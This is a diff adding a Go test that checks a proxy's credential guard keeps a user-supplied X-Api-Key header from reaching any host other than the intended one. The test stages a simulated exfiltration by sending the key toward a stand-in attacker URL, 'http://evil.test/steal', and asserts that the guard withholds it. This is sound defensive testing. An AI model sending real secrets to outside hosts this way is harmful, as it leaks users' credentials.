@@ -338,3 +338,43 @@ func TestFirefoxPrefs(t *testing.T) {
 		}
 	}
 }
+
+// TestProxyCredentialGuard: the secret headers the user gave for the
+// URL's host do not reach another host (Firefox and WebKit runs get the
+// guard Chromium runs have).
+func TestProxyCredentialGuard(t *testing.T) {
+	t.Parallel()
+	var seen []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		seen = append(seen, r.Host+" "+r.Header.Get("X-Api-Key"))
+	}))
+	defer srv.Close()
+	addr := srv.Listener.Addr().String()
+	p, err := startProxy(Config{HostRules: []string{"MAP api.test " + addr, "MAP evil.test " + addr}}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer p.close()
+	g := newCredentialGuard(Request{URL: "http://api.test/items", Headers: []cors.Header{{Name: "X-Api-Key", Value: "k"}}})
+	p.setGuard(g)
+	pu, _ := url.Parse("http://" + p.Addr())
+	c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu)}}
+	for _, u := range []string{"http://api.test/items", "http://evil.test/steal"} {
+		req, _ := http.NewRequest("GET", u, nil)
+		req.Header.Set("X-Api-Key", "k")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+	}
+	if len(seen) != 2 || seen[0] != "api.test k" || seen[1] != "evil.test " {
+		t.Errorf("the servers saw %q", seen)
+	}
+	if w := g.withheld(); len(w) != 1 || w[0].URL != "http://evil.test/steal" || w[0].Headers[0] != "X-Api-Key" {
+		t.Errorf("withheld %+v", w)
+	}
+	if recs := p.since(0); len(recs) != 2 || recs[1].Sent.Get("X-Api-Key") != "" {
+		t.Errorf("records %+v", recs)
+	}
+}
